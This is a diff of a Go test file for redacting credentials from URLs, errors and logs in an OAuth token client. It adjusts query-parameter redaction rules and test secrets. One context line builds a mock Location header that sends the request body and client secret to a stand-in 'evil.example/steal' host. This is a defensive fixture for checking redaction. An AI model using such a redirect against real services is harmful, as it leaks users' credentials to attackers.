@@ -84,7 +84,7 @@ func TestRedaction(t *testing.T) {
 		{"secret cut by the excerpt limit", func(w http.ResponseWriter, r *http.Request, body string) {
 			w.Header().Set("Content-Type", "text/plain")
 			w.WriteHeader(http.StatusBadRequest)
-			fmt.Fprint(w, strings.Repeat("x", snippetBytes-4)+rPassword+rClientSecret)
+			fmt.Fprint(w, strings.Repeat("x", maxServerText-4)+rPassword+rClientSecret)
 		}, "non-JSON body"},
 		{"location header", func(w http.ResponseWriter, r *http.Request, body string) {
 			w.Header().Set("Location", "https://"+rCode+".evil.example/steal?b="+url.QueryEscape(body)+"&s="+url.QueryEscape(rClientSecret))
@@ -180,8 +180,17 @@ func TestRedactURL(t *testing.T) {
 		{"https://login.example.com/oauth2/token", "https://login.example.com/oauth2/token"},
 		{"https://user:pass@login.example.com/token", "https://[REDACTED]@login.example.com/token"},
 		{"https://apikey@login.example.com/token", "https://[REDACTED]@login.example.com/token"},
-		{"https://login.example.com/token?client_secret=s3cr3t&p=B2C_1", "https://login.example.com/token?client_secret=[REDACTED]&p=[REDACTED]"},
-		{"https://login.example.com/token?s3cr3t", "https://login.example.com/token?[REDACTED]"},
+		// Query values are hidden by name or by length, and shown
+		// otherwise.
+		{"https://login.example.com/token?client_secret=s3cr3t&p=B2C_1", "https://login.example.com/token?client_secret=[REDACTED]&p=B2C_1"},
+		{"https://login.example.com/token?x=1", "https://login.example.com/token?x=1"},
+		{"https://login.example.com/token?api-version=2019-01-01&tenant=acme", "https://login.example.com/token?api-version=2019-01-01&tenant=acme"},
+		{"https://login.example.com/token?X-Api-Key=1&SIG=2&access_token=3&Password=4&code=5&authz=6", "https://login.example.com/token?X-Api-Key=[REDACTED]&SIG=[REDACTED]&access_token=[REDACTED]&Password=[REDACTED]&code=[REDACTED]&authz=[REDACTED]"},
+		{"https://login.example.com/token?x=0123456789abcdef&y=0123456789abcde", "https://login.example.com/token?x=[REDACTED]&y=0123456789abcde"},
+		{"https://login.example.com/token?x=%30123456789abcde", "https://login.example.com/token?x=%30123456789abcde"},
+		{"https://login.example.com/token?s3cr3t", "https://login.example.com/token?s3cr3t"},
+		{"https://login.example.com/token?s3cr3t-0123456789", "https://login.example.com/token?[REDACTED]"},
+		{"https://login.example.com/token?apikey", "https://login.example.com/token?[REDACTED]"},
 		{"https://login.example.com/token#s3cr3t", "https://login.example.com/token#[REDACTED]"},
 		{"http://127.0.0.1:8080/token", "http://127.0.0.1:8080/token"},
 		// Not parseable: invalid port, a space, a placeholder host.
@@ -204,7 +213,8 @@ func TestRedactURL(t *testing.T) {
 // TestRedaction_tokenURL checks that credentials written into the token URL
 // itself, as user information or a query, reach no error and no log field.
 func TestRedaction_tokenURL(t *testing.T) {
-	const urlSecret = "URLs3cr3t"
+	// Long enough to be hidden whatever the parameter's name.
+	const urlSecret = "URLs3cr3t-0123456789"
 	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
 		// The server echoes the URL it was called with.
 		b, _ := json.Marshal(map[string]string{"error": "invalid_client", "error_description": "bad " + r.URL.String()})
